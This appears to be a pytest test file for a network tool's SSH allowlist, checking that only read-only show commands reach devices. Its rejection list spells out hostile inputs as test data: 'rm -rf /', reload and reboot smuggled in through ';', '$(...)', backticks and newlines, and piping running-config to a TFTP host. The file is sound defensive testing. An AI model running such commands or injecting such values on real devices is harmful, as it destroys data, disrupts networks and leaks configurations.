"""Nothing leaves us but what shows."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wiremap_lab.collectors.ssh.allowed import check, is_read_only
from wiremap_lab.errors import InvalidValue
from wiremap_lab.readers.commands import PLATFORMS

EVERY = [command for questions in PLATFORMS.values() for question in questions for command in question.commands]


@pytest.mark.parametrize("command", EVERY)
def test_all_that_platforms_are_asked_only_shows(command: str) -> None:
    assert is_read_only(command)


@pytest.mark.parametrize(
    "command",
    [
        "configure terminal",
        "conf t",
        "reload",
        "write erase",
        "clear mac address-table dynamic",
        "system-view",
        "show running-config | redirect tftp://192.0.2.1/x",
        "show version | append flash:x",
        "show version | tee flash:x",
        "show version > bootflash:x",
        "show version ; reload",
        "show version\nreload",
        "show version\rreload",
        "show version | json | sh",
        "ip -j neigh show; rm -rf /",
        "ip -j neigh flush all",
        "bridge -j fdb show $(reboot)",
        "lldpcli -f json show neighbors details `reboot`",
        "lldpcli configure system hostname x",
        "ip link set eth0 down",
        "/system reboot",
        "/ip arp print; /system reboot",
        "/ip arp remove numbers=0 print",
        "set interfaces ge-0/0/0 disable",
        "no shutdown",
        "do show version",
        "show",
        "sh ver",
        "enable",
    ],
)
def test_what_would_change_a_device_is_not_sent(command: str) -> None:
    assert not is_read_only(command)
    with pytest.raises(InvalidValue, match="not sent"):
        check(command + "\n", enable=False)


def test_privileged_mode_is_asked_for_only_by_who_has_its_password() -> None:
    check("enable\n", enable=True)
    with pytest.raises(InvalidValue):
        check("enable\n", enable=False)


@given(st.text(alphabet=st.sampled_from(" ;|&$`<>(){}\n\r\\'\"!*?~#%^=+@"), min_size=1), st.sampled_from(EVERY))
def test_no_sign_that_a_shell_or_a_pipe_knows_makes_a_second_command(signs: str, command: str) -> None:
    written = f"{command}{signs}reload"
    if is_read_only(written):
        assert re.fullmatch(r"[\w .:/,|-]+", written)
        assert not re.search(r"\|(?! ?(?:json|xml|display|no-more|include|exclude|begin|match|count))", written)
